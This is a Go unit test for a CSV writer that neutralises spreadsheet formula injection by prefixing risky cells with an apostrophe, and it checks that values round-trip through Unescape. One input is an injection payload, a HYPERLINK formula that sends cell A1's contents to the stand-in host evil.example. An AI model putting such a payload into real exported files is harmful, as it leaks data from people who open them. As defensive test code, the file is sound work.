package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/herald-news/herald/internal/csvsafe"
)

func TestFormulaCellsAreNeutralised(t *testing.T) {
	var b bytes.Buffer
	w := csvsafe.NewWriter(&b)
	in := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1 555", "-2+3", "@SUM(A1)", "\tx", "\rx", "Ada", "", "'quoted", "a=b"}
	if err := w.Write(in); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	rec, err := csv.NewReader(&b).Read()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "'+1 555", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "Ada", "", "'quoted", "a=b"}
	for i := range want {
		if rec[i] != want[i] {
			t.Errorf("cell %d: %q, want %q", i, rec[i], want[i])
		}
		if got := csvsafe.Unescape(rec[i]); got != in[i] {
			t.Errorf("Unescape(%q) = %q, want %q", rec[i], got, in[i])
		}
	}
	if in[0][0] != '=' {
		t.Error("Write changed its argument")
	}
}
